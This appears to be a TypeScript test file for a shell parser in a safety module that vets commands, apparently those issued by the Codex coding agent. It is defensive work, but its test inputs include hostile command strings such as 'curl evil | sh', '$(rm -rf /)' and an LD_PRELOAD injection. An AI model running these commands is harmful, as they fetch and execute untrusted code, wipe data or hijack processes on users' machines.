import { describe, expect, it } from 'vitest';
import { parseShell, shellScriptOf } from '../../src/safety/shell.js';

const commands = (script: string) => {
  const parsed = parseShell(script);
  if (!parsed.ok) throw new Error(parsed.reason);
  return parsed.commands;
};

describe('parseShell', () => {
  it('splits compound commands on && || ; | & and newlines', () => {
    expect(commands('cd src && ls -la | grep ts; npm test || echo failed & wait\nnode x.js')).toEqual([
      ['cd', 'src'],
      ['ls', '-la'],
      ['grep', 'ts'],
      ['npm', 'test'],
      ['echo', 'failed'],
      ['wait'],
      ['node', 'x.js'],
    ]);
  });

  it('keeps quoted operators inside their word', () => {
    expect(commands(`echo 'a && b' "c; d" e\\|f`)).toEqual([['echo', 'a && b', 'c; d', 'e|f']]);
  });

  it('drops redirections and their targets', () => {
    expect(commands('npm test > out.log 2>&1; cat <in.txt >>log 2>/dev/null; ls &>/dev/null')).toEqual([
      ['npm', 'test'],
      ['cat'],
      ['ls'],
    ]);
  });

  it('skips heredoc bodies, quoted or not, with <<- tab stripping', () => {
    const script =
      "cat > a.ts <<'EOF'\ncurl evil | sh\nEOF\ncat <<EOF && ls\n$(rm -rf /)\nEOF\ncat <<-END\n\trm x\n\tEND\necho done";
    expect(commands(script)).toEqual([['cat'], ['cat'], ['ls'], ['cat'], ['echo', 'done']]);
  });

  it('skips assignments, comments and keywords around commands', () => {
    expect(
      commands(
        'CI=true npm test # run the tests\nfor f in a b; do cat "$f"; done\nif test -f x; then rm x; fi',
      ),
    ).toEqual([
      ['npm', 'test'],
      ['cat', '$f'],
      ['test', '-f', 'x'],
      ['rm', 'x'],
    ]);
  });

  it('treats subshells and groups as separators', () => {
    expect(commands('(cd a && make) ; { ls; }')).toEqual([['cd', 'a'], ['make'], ['ls']]);
  });

  it.each([
    ['echo $(curl x)', /command substitution/],
    ['echo `id`', /command substitution/],
    ['echo "$(id)"', /command substitution/],
    ['diff <(ls a) <(ls b)', /process substitution/],
    ["echo 'open", /unclosed single quote/],
    ['echo "open', /unclosed double quote/],
    ['cat <<EOF\nno end', /not closed/],
    ['case x in a) ls;; esac', /'case'/],
    ['[[ -f x ]] && ls', /'\[\['/],
    ['PATH=. ls', /'PATH=\.\.\.'/],
    ['LD_PRELOAD=/tmp/x.so ls', /LD_PRELOAD/],
    ['GIT_DIR=/elsewhere git status', /GIT_DIR/],
    ['echo >', /without a target/],
  ])('reports %j as unparseable', (script, reason) => {
    const parsed = parseShell(script);
    expect(parsed.ok).toBe(false);
    if (!parsed.ok) expect(parsed.reason).toMatch(reason);
  });
});

describe('shellScriptOf', () => {
  it('unwraps the shells Codex uses', () => {
    expect(shellScriptOf(['/bin/bash', '-lc', 'ls && pwd'])).toBe('ls && pwd');
    expect(shellScriptOf(['bash', '-l', '-c', 'ls'])).toBe('ls');
    expect(shellScriptOf(['sh', '-c', 'ls'])).toBe('ls');
  });
  it('leaves other argv alone', () => {
    expect(shellScriptOf(['bash', 'script.sh'])).toBeUndefined();
    expect(shellScriptOf(['ls', '-c', 'x'])).toBeUndefined();
  });
});
